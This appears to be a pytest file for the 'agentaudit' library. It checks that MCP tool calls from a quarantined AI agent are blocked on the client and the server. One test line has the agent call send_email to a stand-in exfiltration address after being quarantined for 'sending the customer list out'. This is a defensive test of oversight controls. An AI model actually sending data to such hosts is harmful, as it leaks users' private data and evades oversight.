"""A quarantined agent's MCP tool calls are refused, on the client and on the server.

The quarantine state comes over real HTTP from
``tests.instrumentation.admin_double.AdminDouble``, a loopback server answering
``GET /v1/quarantine`` with the admin API's JSON shape (the real route is exercised by
``tests/e2e/test_revocation.py``). The MCP server is a real subprocess over stdio.

* Client side: the guard in the agent process refuses ``ClientSession.call_tool`` with
  :class:`agentaudit.AgentQuarantined` before any request leaves; the client span is
  ``blocked`` and the server never sees the call.
* Server side: a server with its own guard refuses the call of a quarantined caller
  (identified by the request ``_meta``); the server span is ``blocked`` and the client's
  ``call_tool`` raises the SDK's ``MCPError`` carrying the refusal ("agent … is
  quarantined: <reason>"), which an MCP host hands to the model as the tool's error.
"""

from __future__ import annotations

import asyncio
import os
import sys
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from mcp.client.session import ClientSession
from opentelemetry.trace import StatusCode

import agentaudit
from agentaudit.instrumentation._quarantine import GuardSettings, QuarantineGuard
from agentaudit.instrumentation._runtime import add_before_tool_call
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans
from tests.frameworks.mcp._client import ROOT, stdio_session
from tests.frameworks.mcp._jsonl import wait_for_spans
from tests.frameworks.mcp._sdk import MCPError, is_error
from tests.instrumentation.admin_double import AdminDouble

pytestmark = pytest.mark.timeout(120)

TOKEN = "agent-token"


def _server_tool(spans: list[dict[str, Any]], name: str) -> list[dict[str, Any]]:
    return [s for s in spans if s["attributes"].get(A.GEN_AI_TOOL_NAME) == name]


@pytest.fixture
def admin() -> Iterator[AdminDouble]:
    with AdminDouble(token=TOKEN) as double:
        yield double


def test_the_client_refuses_a_quarantined_agent_before_the_request_leaves(
    spans: Spans, admin: AdminDouble, tmp_path: Path
) -> None:
    guard = QuarantineGuard(GuardSettings(api_url=admin.url, token=TOKEN), poll=False)
    remove = add_before_tool_call(guard)
    server_file = tmp_path / "server-spans.jsonl"

    async def run() -> None:
        async with stdio_session(server_file) as session:
            with agentaudit.context(agent="mail-assistant", user="bob", session="sess-q"):
                inbox = await session.call_tool("read_inbox", {"folder": "inbox"})
                assert not is_error(inbox)
                admin.quarantine("mail-assistant", "sent the customer list out")
                guard.refresh_all()  # what the poller does every 2 s
                with pytest.raises(agentaudit.AgentQuarantined, match="customer list out"):
                    await session.call_tool("send_email", {"to": "x@exfil.example", "body": "b"})
            with agentaudit.context(agent="calendar-bot", user="bob", session="sess-r"):
                assert not is_error(await session.call_tool("read_inbox", {}))

    try:
        asyncio.run(run())
    finally:
        remove()
        guard.close()
    blocked = spans.tool("send_email")
    attributes = blocked.attributes or {}
    assert attributes[A.DECISION] == A.DECISION_BLOCKED
    assert str(attributes[A.ERROR_TYPE]).endswith("AgentQuarantined")
    assert attributes[A.FRAMEWORK] == "mcp"
    assert blocked.status.status_code is StatusCode.ERROR
    # The calendar-bot call after it reached the server; the refused one never did.
    server_spans = wait_for_spans(
        server_file, lambda found: len(_server_tool(found, "read_inbox")) == 2
    )
    assert _server_tool(server_spans, "send_email") == []


@asynccontextmanager
async def _guarded_server(spans_file: Path, api_url: str) -> AsyncIterator[ClientSession]:
    from mcp.client.stdio import StdioServerParameters, stdio_client

    env = {k: v for k, v in os.environ.items() if not k.startswith(("OTEL_", "AGENTAUDIT_"))}
    env["PYTHONPATH"] = str(ROOT) + os.pathsep + env.get("PYTHONPATH", "")
    env |= {
        "AGENTAUDIT_API_URL": api_url,
        "AGENTAUDIT_TOKEN": TOKEN,
        "AGENTAUDIT_QUARANTINE_INTERVAL": "0.1",
    }
    params = StdioServerParameters(
        command=sys.executable,
        args=["-m", "tests.frameworks.mcp._quarantine_server", str(spans_file)],
        env=env,
        cwd=str(ROOT),
    )
    async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
        await session.initialize()
        yield session


def test_a_guarded_server_refuses_a_quarantined_caller_as_a_tool_error(
    spans: Spans, admin: AdminDouble, tmp_path: Path
) -> None:
    server_file = tmp_path / "server-spans.jsonl"

    async def run() -> Any:
        async with _guarded_server(server_file, admin.url) as session:
            with agentaudit.context(agent="mail-assistant", user="bob", session="sess-s"):
                first = await session.call_tool("read_inbox", {"folder": "inbox"})
                assert not is_error(first)
                admin.quarantine("mail-assistant", "sent the customer list out")
                deadline = time.monotonic() + 60
                while time.monotonic() < deadline:  # the server's poller picks it up
                    try:
                        await session.call_tool("read_inbox", {"folder": "inbox"})
                    except MCPError as exc:
                        return exc
                    await asyncio.sleep(0.05)
                raise AssertionError("the server never refused the quarantined caller")

    refused = asyncio.run(run())
    server_spans = wait_for_spans(
        server_file,
        lambda found: any(s["attributes"].get(A.DECISION) == A.DECISION_BLOCKED for s in found),
    )
    (blocked,) = [s for s in server_spans if s["attributes"].get(A.DECISION) == "blocked"]
    assert blocked["kind"] == "SERVER"
    assert blocked["attributes"][A.GEN_AI_AGENT_ID] == "mail-assistant"  # from _meta
    assert blocked["attributes"][A.ENDUSER_ID] == "bob"
    assert str(blocked["attributes"][A.ERROR_TYPE]).endswith("AgentQuarantined")
    assert str(refused) == (
        "agent mail-assistant is quarantined: sent the customer list out "
        "(access revoked; do not retry)"
    )
    # The client records the refused call as a failed tool call.
    client = spans.tools("read_inbox")[-1]
    assert (client.attributes or {})[A.ERROR_TYPE] == (
        f"{type(refused).__module__}.{type(refused).__qualname__}"
    )
    assert client.status.status_code is StatusCode.ERROR
